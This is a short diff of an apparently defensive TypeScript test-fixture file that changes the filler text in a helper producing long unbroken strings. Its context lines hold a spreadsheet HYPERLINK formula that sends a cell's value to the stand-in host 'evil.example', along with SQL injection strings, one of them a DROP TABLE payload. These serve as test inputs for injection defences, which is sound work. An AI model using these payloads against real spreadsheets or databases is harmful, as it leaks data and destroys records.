@@ -24,9 +24,9 @@ export const FORMULA_LEADERS = ["=", "+", "-", "@", "\t", "\r"] as const;
 export const FORMULA = `=HYPERLINK("http://evil.example/?leak="&A1,"Klik")`;
 export const SQL_FRAGMENTS = ["' OR 1=1 --", "'; DROP TABLE cases; --", `" OR ""="`, "1) OR (1=1", "%' UNION SELECT NULL --"] as const;
 
-/** An unbroken run of letters (no space, no hyphen) `length` characters long. */
+/** An unbroken run of letters (no space, no hyphen) `length` characters long, with no signal word in it. */
 export function unbroken(length: number): string {
-  return "BalpresKoreaGradeA".repeat(Math.ceil(length / 18)).slice(0, length);
+  return "TeksPanjangTanpaJeda".repeat(Math.ceil(length / 20)).slice(0, length);
 }
 
 /**
